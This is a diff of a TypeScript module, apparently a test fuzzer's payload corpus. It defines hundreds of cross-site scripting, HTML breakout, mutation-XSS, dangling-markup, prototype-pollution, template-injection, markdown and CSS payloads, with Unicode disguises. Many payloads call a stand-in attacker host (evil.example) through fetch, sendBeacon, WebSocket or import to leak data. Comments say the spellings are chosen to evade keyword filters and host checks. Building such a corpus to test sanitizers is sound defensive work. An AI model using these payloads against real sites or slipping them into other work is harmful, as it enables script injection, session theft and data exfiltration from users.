@@ -1,6 +1,362 @@
-import { BREAKOUTS, MARKUP, OBJECTS } from './payload/markup.ts';
-import type { Payload } from './payload/payload.ts';
-import { ADDRESSES, CHARACTERS, MARKDOWN, STYLES } from './payload/text.ts';
+/**
+ * One string that harms wherever text is taken for something else. In `template`, `«id»` stands for the number by which what it
+ * does is told: a script calls `__hit(«id»)` or opens a dialog, a request goes to `evil.example/«id»`.
+ */
+export interface Payload {
+  /** Kind and way, such as `markup/svg onload`. */
+  readonly name: string;
+  readonly template: string;
+}
+
+/** The string, with `id` (digits) in all that it does. */
+export function writePayload({ template }: Payload, id: number): string {
+  return template.replaceAll('«id»', String(id));
+}
+
+/**
+ * Every carrier with the first of `fillings`, and with `each - 1` others that change from carrier to carrier, so that over all carriers
+ * every filling is used. `slot` is what stands in a carrier for a filling.
+ */
+function combine(options: {
+  readonly kind: string;
+  readonly carriers: readonly string[];
+  readonly slot: string;
+  readonly fillings: readonly string[];
+  readonly each: number;
+}): readonly Payload[] {
+  const { kind, carriers, slot, fillings, each } = options;
+  return carriers.flatMap((carrier, at) =>
+    Array.from({ length: Math.min(each, fillings.length) }, (_, turn) => {
+      const other = 1 + ((at * (each - 1) + turn - 1) % (fillings.length - 1));
+      const filling = fillings[turn === 0 ? 0 : other]!;
+      return { name: `${kind}/${carrier.slice(0, 40)}`, template: carrier.replaceAll(slot, filling) };
+    }),
+  );
+}
+
+/** Addresses that run something, in the spellings that lists of forbidden words miss. */
+const RUNNING_ADDRESSES: readonly string[] = [
+  'javascript:__hit(«id»)',
+  'JaVaScRiPt:__hit(«id»)',
+  'java\tscript:__hit(«id»)',
+  'java\nscript:__hit(«id»)',
+  ' \u0001javascript:__hit(«id»)',
+  'javascript&colon;__hit(«id»)',
+  '&#106;avascript:__hit(«id»)',
+  'java&Tab;script:__hit(«id»)',
+  'javascript://https://docs.test/%0a__hit(«id»)',
+  'javascript:/*https://docs.test/*/__hit(«id»)//',
+  "javascript:'<svg/onload=top.__hit(«id»)>'",
+  'ｊavascript:__hit(«id»)',
+  'vbscript:__hit(«id»)',
+  'data:text/html,<script>top.__hit(«id»)</script>',
+  'data:image/svg+xml,<svg/onload=top.__hit(«id») xmlns=http://www.w3.org/2000/svg>',
+  'data:text/javascript,__hit(«id»)',
+];
+
+/** Addresses of somebody else's host, in the spellings that checks of hosts misread. */
+const FOREIGN_ADDRESSES: readonly string[] = [
+  'https://evil.example/«id»',
+  'http://evil.example/«id»?q=secret',
+  '//evil.example/«id»',
+  String.raw`\\evil.example/«id»`,
+  String.raw`/\evil.example/«id»`,
+  'https:/evil.example/«id»',
+  'https://docs.test@evil.example/«id»',
+  'https://evil.example:443/«id»#docs.test',
+  'https://ｅvil.example/«id»',
+  'https://x«id».evil.example/',
+  'ws://evil.example/«id»',
+  '/../..//evil.example/«id»',
+  '\t//evil.example/«id»',
+  '?next=//evil.example/«id»',
+];
+
+/** As they are, for places that take an address. */
+export const ADDRESSES: readonly Payload[] = [...RUNNING_ADDRESSES, ...FOREIGN_ADDRESSES].map((template) => ({
+  name: 'address',
+  template,
+}));
+
+/** Elements and handlers that run what they are given. */
+const RUNNERS: readonly string[] = [
+  '<script>«run»</script>',
+  '<ScRiPt\t>«run»</sCrIpT\n>',
+  '<<script>«run»//<</script>',
+  '<img src=x onerror=«run»>',
+  '<IMG SRC=x OnErRoR="«run»">',
+  '<img src=x\nonerror\n=\n"«run»"\n>',
+  '<img src=x:x onerror\u000c=«run»>',
+  '<picture><source srcset=x><img onerror=«run»></picture>',
+  '<svg onload=«run»>',
+  '<svg><script>«run»</script></svg>',
+  '<svg><animate onbegin=«run» attributeName=x dur=1s>',
+  '<svg><a><animate attributeName=href values="javascript:«run»" /><text x=9 y=9>x</text></a></svg>',
+  '<svg><use href="data:image/svg+xml,<svg id=x onload=«run»/>#x"></use></svg>',
+  '<svg><foreignObject><img src=x onerror=«run»></foreignObject></svg>',
+  '<body onload=«run»>',
+  '<iframe srcdoc="&lt;script&gt;«run»&lt;/script&gt;"></iframe>',
+  '<iframe src="javascript:«run»"></iframe>',
+  '<object data="javascript:«run»"></object>',
+  '<embed src="javascript:«run»">',
+  '<details open ontoggle=«run»>x</details>',
+  '<input autofocus onfocus=«run»>',
+  '<select autofocus onfocus=«run»></select>',
+  '<xss contenteditable autofocus onfocus=«run»>x</xss>',
+  '<video><source onerror=«run»></video>',
+  '<link rel=stylesheet href=/none onerror=«run»>',
+  '<marquee onstart=«run»>x</marquee>',
+  '<div style="animation:x 1s" onanimationstart=«run»>x</div>',
+  '<a href=# onclick=«run»>x</a>',
+  '<form onsubmit=«run»><button>x</button></form>',
+  '<button popovertarget=y>x</button><div popover id=y onbeforetoggle=«run»>y</div>',
+  '<math><maction actiontype=statusline xlink:href="javascript:«run»">x</maction></math>',
+  '<meta http-equiv=refresh content="0;url=javascript:«run»">',
+  '<base href="javascript:/«run»//">',
+  '<template shadowrootmode=open><img src=x onerror=«run»></template>',
+  '<noscript><p title="</noscript><img src=x onerror=«run»>">x</p></noscript>',
+];
+
+/** Elements and attributes that load, lead or send somewhere. */
+const LEADERS: readonly string[] = [
+  '<a href="«url»">click</a>',
+  '<a href="/docs" ping="«url»">click</a>',
+  '<svg><a xlink:href="«url»"><text y=9>x</text></a></svg>',
+  '<img src="«url»">',
+  '<img srcset="«url» 1x, «url» 2x">',
+  '<input type=image src="«url»">',
+  '<body background="«url»">',
+  '<video poster="«url»"><track src="«url»"></video>',
+  '<source src="«url»"><picture><source srcset="«url»"><img></picture>',
+  '<iframe src="«url»"></iframe>',
+  '<object data="«url»"></object>',
+  '<script src="«url»"></script>',
+  '<script type=importmap>{"imports":{"a":"«url»"}}</script>',
+  '<script type=speculationrules>{"prefetch":[{"urls":["«url»"]}]}</script>',
+  '<link rel=stylesheet href="«url»">',
+  '<link rel="prefetch prerender preload" as=image href="«url»">',
+  '<base href="«url»"><img src=a>',
+  '<meta http-equiv=refresh content="0; url=«url»">',
+  '<form action="«url»"><input name=q autofocus><button>x</button></form>',
+  '<button form=ibid formaction="«url»">x</button>',
+  '<svg><image href="«url»" /><feImage xlink:href="«url»" /></svg>',
+  '<math href="«url»"><mi xlink:href="«url»">x</mi></math>',
+];
+
+/** Ways of running and of reaching out, once a script may run. None holds a space, `"` or `>`, so that they fit into any attribute. */
+const SCRIPTS: readonly string[] = [
+  '__hit(«id»)',
+  "window['__'+'hit'](«id»)",
+  'self[/__hit/.source](«id»)',
+  '__hit`«id»`',
+  "(0,eval)('__hit(«id»)')",
+  "setTimeout('__hit(«id»)')",
+  String.raw`\u005f\u005fhit(«id»)`,
+  "fetch('//evil.example/«id»')",
+  "navigator.sendBeacon('//evil.example/«id»')",
+  "(new(Image)).src='//evil.example/«id»'",
+  'alert(«id»)',
+  "open('//evil.example/«id»')",
+  "location='//evil.example/«id»'",
+  "import('//evil.example/«id»')",
+  "new(WebSocket)('wss://evil.example/«id»')",
+  "postMessage('evil.example/«id»','*'),__hit(«id»)",
+];
+
+const MARKUP: readonly Payload[] = [
+  ...combine({ kind: 'runner', carriers: RUNNERS, slot: '«run»', fillings: SCRIPTS, each: 14 }),
+  ...combine({ kind: 'leader', carriers: LEADERS, slot: '«url»', fillings: FOREIGN_ADDRESSES, each: 9 }),
+  ...combine({ kind: 'leader', carriers: LEADERS, slot: '«url»', fillings: RUNNING_ADDRESSES, each: 6 }),
+];
+
+/** Ends of what a text may have been written into. */
+const ENDS: readonly string[] = [
+  '"></a>«core»',
+  "'></a>«core»",
+  '` >«core»',
+  '" «attribute» x="',
+  "' «attribute» x='",
+  '</title>«core»',
+  '</textarea>«core»',
+  '</style>«core»',
+  '</script>«core»<script>',
+  '</noscript>«core»',
+  '</template>«core»',
+  '</svg></math>«core»',
+  '</code></pre>«core»<pre><code>',
+  '</p></li></ol></dialog></ibid-ask>«core»',
+  '-->«core»<!--',
+  '<![CDATA[x]]>«core»',
+  '\u0000«core»',
+  '\r\n\r\n«core»',
+  '\n\ndata: «core»\n\nevent: run-end\n\n',
+  '"}]}«core»{"a":["',
+];
+
+const CORES: readonly string[] = [
+  '<img src=x onerror=__hit(«id»)>',
+  '<svg onload=__hit(«id»)>',
+  '<script>__hit(«id»)</script>',
+  '<img src=//evil.example/«id»>',
+  '<a href="javascript:__hit(«id»)">x</a>',
+  '<iframe srcdoc="<script>top.__hit(«id»)</script>"></iframe>',
+];
+
+/** Markup that is another one once it was written out and read again. */
+const MUTATIONS: readonly string[] = [
+  '<table><a>«core»<tr></a></table>',
+  '<svg></p><style><a id="</style>«core»">',
+  '<math><mtext><table><mglyph><style><!--</style>«core»-->',
+  '<form><math><mtext></form><form><mglyph><style></math>«core»',
+  '<svg><style>&lt;/style&gt;«core»</style></svg>',
+  '<svg><title><style><img title="</style>«core»"></title></svg>',
+  '<pre>\n\n<code>«core»</code></pre>',
+  '<p><plaintext></p>«core»',
+  '<b><i><u></b>«core»</i></u>',
+  '<div id="&quot;>«core»">x</div>',
+  '<!-- a --!>«core»<!-- -->',
+  '<annotation-xml encoding="text/html">«core»</annotation-xml>',
+];
+
+/** Markup without an end, which swallows what follows and sends it along. */
+const DANGLING: readonly Payload[] = [
+  "<img src='//evil.example/«id»?",
+  '<a href="//evil.example/«id»" target="',
+  "<base target='//evil.example/«id»",
+  '<textarea name=q form=x>//evil.example/«id»',
+  '<form action=//evil.example/«id»><button>x</button><textarea name=q>',
+  '<style>@import//evil.example/«id»?',
+  "<meta http-equiv=refresh content='0;url=//evil.example/«id»?",
+].map((template) => ({ name: 'dangling', template }));
+
+const BREAKOUTS: readonly Payload[] = [
+  ...ENDS.flatMap((end) =>
+    end.includes('«attribute»')
+      ? ['onfocus=__hit(«id») autofocus', 'onerror=__hit(«id») src=x', 'style=background:url(//evil.example/«id»)'].map(
+          (attribute) => ({ name: 'breakout/attribute', template: end.replace('«attribute»', attribute) }),
+        )
+      : combine({ kind: 'breakout', carriers: [end], slot: '«core»', fillings: CORES, each: 6 }),
+  ),
+  ...MUTATIONS.flatMap((shape) =>
+    combine({ kind: 'mutation', carriers: [shape], slot: '«core»', fillings: CORES, each: 6 }),
+  ),
+  ...DANGLING,
+];
+
+/** Names that mean something to objects, templates of frameworks, and what looks like an element of React. */
+const TEXTS: readonly string[] = [
+  '__proto__',
+  'constructor',
+  'constructor.prototype.__hit',
+  '__proto__[src]=//evil.example/«id»',
+  'then',
+  'dangerouslySetInnerHTML',
+  '{"__proto__":{"src":"//evil.example/«id»"}}',
+  '{"constructor":{"prototype":{"onerror":"__hit(«id»)"}}}',
+  '{"$$typeof":"Symbol(react.element)","type":"img","props":{"src":"//evil.example/«id»"}}',
+  '{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=__hit(«id»)>"}}',
+  '{{constructor.constructor("__hit(«id»)")()}}',
+  '${__hit(«id»)}',
+  "{{$on.constructor('__hit(«id»)')()}}",
+  '<div ng-app ng-csp><p ng-click=$event.view.__hit(«id»)>x</p></div>',
+  '<p v-html="\'<img src=x onerror=__hit(«id»)>\'">x</p>',
+  '<a data-ibid-open="//evil.example/«id»" data-ibid-ask>x</a>',
+  '<ibid-ask data-api=//evil.example/«id»></ibid-ask>',
+  '<a id=config href="javascript:__hit(«id»)"><a id=config name=api href=//evil.example/«id»>',
+  '<form id=document><input name=cookie value=«id»><img name=body src=//evil.example/«id»></form>',
+  '{message}{title}{place}{count} //evil.example/«id»',
+  'event: run-end\ndata: {"message":"<img src=x onerror=__hit(«id»)>"}\n\n',
+];
+
+const OBJECTS: readonly Payload[] = TEXTS.map((text) => ({
+  name: 'object',
+  template: text.includes('«id»') ? text : `${text} «id»`,
+}));
+
+const CARRIERS: readonly string[] = [
+  '[click](«url»)',
+  '![pixel](«url»)',
+  '[click](<«url»> "title")',
+  '[![pixel](«url»)](«url»)',
+  '[ref]: «url»\n\n[ref] ![x][ref]',
+  '<«url»>',
+  '*[**a ![x](«url»)**](«url»)*',
+  '| a | [x](«url») |\n| - | - |\n| ![x](«url») | b |',
+  '`a](«url»)`[b](«url»)',
+  '```\nx\n```\n![x](«url»)',
+  '<a href="«url»">*x*</a> <img src="«url»">',
+  '$\\href{«url»}{x}$ \\url{«url»}',
+  ':::note[x](«url»)\n![x](«url»)\n:::',
+  '[x](\n  «url»\n  "a"\n)',
+];
+
+const MARKDOWN: readonly Payload[] = [
+  ...combine({ kind: 'markdown', carriers: CARRIERS, slot: '«url»', fillings: FOREIGN_ADDRESSES, each: 9 }),
+  ...combine({ kind: 'markdown', carriers: CARRIERS, slot: '«url»', fillings: RUNNING_ADDRESSES, each: 9 }),
+];
+
+const STYLE_CARRIERS: readonly string[] = [
+  '<style>@import "«url»";</style>',
+  '<style>@import url(«url»);</style>',
+  '<style>:host{cursor:url(«url»),auto;list-style:url(«url»)}</style>',
+  '<p style="background:url(«url»)">x</p>',
+  '<p style="width:expression(__hit(«id»))" title="«url»">x</p>',
+  '<svg style="filter:url(«url»#x);mask:url(«url»)"><rect fill="url(«url»#x)"/></svg>',
+  'url(«url»)',
+  'red;background:url(«url»)',
+  '@import "«url»";',
+];
+
+const STYLES: readonly Payload[] = combine({
+  kind: 'style',
+  carriers: STYLE_CARRIERS,
+  slot: '«url»',
+  fillings: FOREIGN_ADDRESSES,
+  each: 6,
+});
+
+const PLAIN_CORES: readonly string[] = [
+  '<img src=x onerror=__hit(«id»)>',
+  '[click](javascript:__hit(«id»))',
+  '![x](https://evil.example/«id»)',
+];
+
+const tagged = (text: string): string =>
+  [...text].map((char) => String.fromCodePoint(0xe_00_00 + (char.codePointAt(0)! & 0x7f))).join('');
+const fullWidth = (text: string): string =>
+  text.replaceAll(/[<>"'()[\]!=:/]/gu, (char) => String.fromCodePoint(char.codePointAt(0)! + 0xfe_e0));
+
+/** The same in characters that are not seen, turn around, look alike, or become others when they are normalised or cut. */
+const DISGUISES: readonly (readonly [string, (text: string) => string])[] = [
+  ['right to left', (text) => `\u202e${text}\u202c`],
+  ['zero width', (text) => text.replaceAll(/(?<=<|java|!\[)/gu, '\u200b')],
+  ['in tag characters', (text) => `${text} ${tagged(text)}`],
+  ['full width', (text) => `${fullWidth(text)} ${text}`],
+  ['with marks', (text) => text.replaceAll(/[<>]/gu, (char) => `${char}\u0338`) + text],
+  ['half a pair', (text) => `\ud83d${text}\ude00`],
+  ['after a null', (text) => `a\u0000${text}`],
+  ['escaped once', (text) => text.replaceAll('<', '&lt;').replaceAll('[', '&#91;') + text],
+  ['percent', (text) => `${text.split('«id»').map(encodeURIComponent).join('«id»')} ${text}`],
+  ['very long', (text) => `${text} ${'a '.repeat(300)}${text}`],
+  ['deep', (text) => `${text} ${'<b>'.repeat(60)}${'['.repeat(60)}${text}`],
+];
+
+const CHARACTERS: readonly Payload[] = DISGUISES.flatMap(([name, disguise]) =>
+  PLAIN_CORES.map((core) => ({ name: `characters/${name}`, template: disguise(core) })),
+);
+
+/** As plain as they can be, so that nothing else that they do stops what is being tried. Text in front keeps them in sight. */
+export const PLAIN: readonly Payload[] = [
+  '«id» <img src=x onerror=__hit(«id»)>',
+  '«id» <img src=//evil.example/«id»>',
+  '«id» <iframe src=//evil.example/«id»></iframe>',
+  '«id» <audio src=x onerror=__hit(«id»)></audio>',
+  '«id» <svg onload=__hit(«id»)></svg>',
+  '«id» <details open ontoggle=__hit(«id»)></details>',
+  '«id» ![x](https://evil.example/«id»)',
+  '«id» [click](https://evil.example/«id»)',
+  '«id» <script>__hit(«id»)</script>',
+].map((template) => ({ name: 'plain', template }));
 
 /** All of them, each once, kinds mixed, so that any part of the list holds of every kind. The order never changes. */
 export function payloads(): readonly Payload[] {
